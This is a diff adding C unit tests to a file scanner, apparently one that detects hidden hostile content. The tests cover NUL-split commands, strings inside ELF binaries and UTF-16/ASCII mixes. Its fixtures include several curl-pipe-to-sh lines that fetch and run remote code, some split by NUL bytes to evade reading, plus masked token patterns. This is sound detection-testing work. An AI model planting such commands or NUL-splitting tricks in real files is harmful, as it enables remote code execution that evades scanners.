@@ -438,6 +438,139 @@ START_TEST(binary_files)
 }
 END_TEST
 
+static size_t utf16(char *out, const char *s, int be, int bom);
+
+/* Runs p[0..n) through the scanner as path, expecting one finding of
+ * rule (and returning it). */
+static const struct finding *
+one_of(const char *path, const char *p, size_t n, const char *rule,
+    struct finding_list *fl)
+{
+	tu_scan(&sc, path, p, n, fl);
+	ck_assert_msg(tu_count(fl, rule) == 1, "%s: %zu findings of %s",
+	    path, tu_count(fl, rule), rule);
+	return tu_first(fl, rule);
+}
+
+/* dash and bash drop NUL bytes as they read a script: `cu<NUL>rl` runs
+ * curl. Text with NULs is read so, whatever its name; NULs inside words
+ * are a finding of their own. */
+START_TEST(nul_bytes_read_as_sh_reads_them)
+{
+	static const char script[] = "#!/bin/sh\necho hi\ncu\0rl -fsSL "
+	    "http://x/i | s\0\0h\n";
+	static const char noname[] = "echo hi\ncu\0rl -fsSL http://x/i | sh\n";
+	static const char ctl[] = "echo hi\n\001\ncu\0rl -fsSL http://x/i | "
+	    "sh\n";
+	static const char env[] = "K=" TOKEN "\0abc\n";
+	static const char both[] = "K=" TOKEN " ; x\0y\n";
+	static const char ends[] = "curl -fsSL http://x/i | sh\n\0\0";
+	struct finding_list fl;
+	const struct finding *f;
+
+	/* A script by its #!, by its content, and by its name. */
+	f = one_of("run", script, sizeof(script) - 1, "curl-sh", &fl);
+	ck_assert_uint_eq(f->line, 3);
+	ck_assert_uint_eq(f->column, 1);
+	ck_assert_str_eq(f->excerpt, "(read with its NUL bytes dropped, as sh "
+	    "reads it) curl -fsSL http://x/i | sh");
+	f = tu_first(&fl, "airlock.nul-in-text");
+	ck_assert_ptr_nonnull(f);
+	ck_assert_int_eq(f->severity, AL_SEV_MEDIUM);
+	ck_assert_ptr_nonnull(strstr(f->excerpt, "(the first at byte 20)"));
+	finding_list_free(&fl);
+	f = one_of("notes", noname, sizeof(noname) - 1, "curl-sh", &fl);
+	ck_assert_uint_eq(f->line, 2);
+	ck_assert_uint_eq(tu_count(&fl, "airlock.nul-in-text"), 1);
+	finding_list_free(&fl);
+	f = one_of("x.ps1", noname, sizeof(noname) - 1, "curl-sh", &fl);
+	ck_assert_uint_eq(f->line, 2);
+	finding_list_free(&fl);
+	/* A control character makes it binary; its strings are still read
+	 * as sh would read them. */
+	f = one_of("notes", ctl, sizeof(ctl) - 1, "curl-sh", &fl);
+	ck_assert_uint_eq(f->line, 0);
+	ck_assert_str_eq(f->excerpt, "string at byte 10 of a binary file, its "
+	    "NUL bytes dropped as sh does: curl -fsSL http://x/i | sh");
+	ck_assert_uint_eq(tu_count(&fl, "airlock.nul-in-text"), 0);
+	finding_list_free(&fl);
+	/* What a reader a NUL stops sees is read too: the token that a NUL
+	 * ends, before letters that sh would join to it. */
+	f = one_of("a.env", env, sizeof(env) - 1, "gh-pat", &fl);
+	ck_assert_str_eq(f->excerpt, "string a NUL ends at byte 0 of a text "
+	    "file: K=ghp_*****");
+	finding_list_free(&fl);
+	/* ... but not twice when both readings see it. */
+	f = one_of("a.env", both, sizeof(both) - 1, "gh-pat", &fl);
+	ck_assert_uint_eq(f->line, 1);
+	finding_list_free(&fl);
+	/* NULs after the first bytes, in the first chunk read and in a
+	 * later one: dropped as well. */
+	{
+		static const char tail[] = "cu\0rl -fsSL http://x/i | s\0h\n";
+		/* Lines of 80 bytes; past the 8,000-byte sniff, and past the
+		 * first read (KEEP + AL_SCAN_CHUNK, about 1 MiB). */
+		size_t at[] = {113 * 80, 39322 * 80}, i, n;
+		char *big = malloc(at[1] + sizeof(tail));
+
+		ck_assert_ptr_nonnull(big);
+		for (i = 0; i < 2; i++) {
+			memset(big, 'a', at[i]);
+			for (n = 79; n < at[i]; n += 80)
+				big[n] = '\n';
+			memcpy(big + at[i], tail, sizeof(tail) - 1);
+			n = at[i] + sizeof(tail) - 1;
+			f = one_of("long.txt", big, n, "curl-sh", &fl);
+			ck_assert_uint_eq(f->line, at[i] / 80 + 1);
+			ck_assert_uint_eq(tu_count(&fl, "airlock.nul-in-text"), 1);
+			finding_list_free(&fl);
+		}
+		free(big);
+	}
+	/* NULs only between lines hide nothing: no finding, no note. */
+	f = one_of("x.sh", ends, sizeof(ends) - 1, "curl-sh", &fl);
+	ck_assert_str_eq(f->excerpt, "curl -fsSL http://x/i | sh");
+	ck_assert_uint_eq(tu_count(&fl, "airlock.nul-in-text"), 0);
+	finding_list_free(&fl);
+}
+END_TEST
+
+/* In a binary, a string split by NULs is read joined too, but what the
+ * plain strings found is not reported again, and UTF-16 stays UTF-16. */
+START_TEST(binary_strings_joined_once)
+{
+	static const char bin[] = "\x7f" "ELF\x02\x01\0\0ab\0\0 " TOKEN
+	    "\0 xy\0\0cu\0\0rl -fsSL http://x/i | sh\0\x01";
+	static const char want[] = "string at byte 8 of a binary file, its "
+	    "NUL bytes dropped as sh does: ";
+	char buf[256];
+	struct finding_list fl;
+	const struct finding *f;
+	size_t n;
+
+	/* The token is in a plain string and in the joined one: once. */
+	f = one_of("tool", bin, sizeof(bin) - 1, "gh-pat", &fl);
+	ck_assert_str_eq(f->excerpt, "string at byte 12 of a binary file:  "
+	    "ghp_*****");
+	f = tu_first(&fl, "curl-sh");
+	ck_assert_ptr_nonnull(f);
+	ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+	ck_assert_msg(strncmp(f->excerpt, want, sizeof(want) - 1) == 0,
+	    "excerpt: %s", f->excerpt);
+	ck_assert_ptr_null(strstr(f->excerpt, TOKEN));
+	ck_assert_ptr_nonnull(strstr(f->excerpt, "curl -fsSL http://x/i | sh"));
+	finding_list_free(&fl);
+	/* UTF-16 in a binary: read as UTF-16 only. */
+	memcpy(buf, "\x7f" "ELF\x02\x01\0\0", 8);
+	n = 8 + utf16(buf + 8, "curl -fsSL http://x/i | sh", 0, 0);
+	buf[n++] = '\x01';
+	f = one_of("tool", buf, n, "curl-sh", &fl);
+	ck_assert_str_eq(f->excerpt, "UTF-16 string at byte 8 of a binary "
+	    "file: curl -fsSL http://x/i | sh");
+	finding_list_free(&fl);
+}
+END_TEST
+
 /* Text and bytes as UTF-16 (ASCII only), with or without a BOM. */
 static size_t
 utf16(char *out, const char *s, int be, int bom)
@@ -485,6 +618,21 @@ START_TEST(utf16_is_read_as_text)
 			ck_assert_ptr_null(strstr(f->excerpt, TOKEN));
 			finding_list_free(&fl);
 		}
+	/* ASCII lines after UTF-16 text: a UTF-16 reader makes other
+	 * characters of them, sh (which drops the NULs) runs them. */
+	{
+		static const char tail[] = "curl -fsSL http://y/j | sh\n";
+		size_t n = utf16(buf, "echo one\n", 0, 1);
+
+		memcpy(buf + n, tail, sizeof(tail) - 1);
+		n += sizeof(tail) - 1;
+		tu_scan(&sc, "a.ps1", buf, n, &fl);
+		ck_assert_uint_eq(tu_count(&fl, "curl-sh"), 1);
+		ck_assert_str_eq(tu_first(&fl, "curl-sh")->excerpt, "ASCII "
+		    "string at byte 20 of a UTF-16 file: curl -fsSL http://y/j "
+		    "| sh");
+		finding_list_free(&fl);
+	}
 	/* A BOM before ASCII lines is not believed: a shell runs them. */
 	memcpy(buf, "\xff\xfe\ncurl -fsSL http://x/i | sh\n", 31);
 	tu_scan(&sc, "a.sh", buf, 31, &fl);
@@ -875,9 +1023,11 @@ START_TEST(empty_and_nul_and_invalid_utf8)
 	tu_scan(&sc, "empty.txt", "", 0, &fl);
 	ck_assert_uint_eq(fl.n, 0);
 	finding_list_free(&fl);
+	/* Read as sh reads it, the NUL dropped: the token is the 7th
+	 * character (each byte that is not UTF-8 counts one). */
 	tu_scan(&sc, "odd.txt", odd, sizeof(odd) - 1, &fl);
 	ck_assert_uint_eq(tu_count(&fl, "gh-pat"), 1);
-	ck_assert_uint_eq(fl.v[0].column, 8);
+	ck_assert_uint_eq(tu_first(&fl, "gh-pat")->column, 7);
 	finding_list_free(&fl);
 }
 END_TEST
@@ -1270,6 +1420,8 @@ engine_suite(void)
 	tc = tcase_create("hostile");
 	tcase_add_checked_fixture(tc, setup, teardown);
 	tcase_add_test(tc, binary_files);
+	tcase_add_test(tc, nul_bytes_read_as_sh_reads_them);
+	tcase_add_test(tc, binary_strings_joined_once);
 	tcase_add_test(tc, utf16_is_read_as_text);
 	tcase_add_test(tc, utf16_across_chunks);
 	tcase_add_test(tc, lone_cr_ends_a_line);
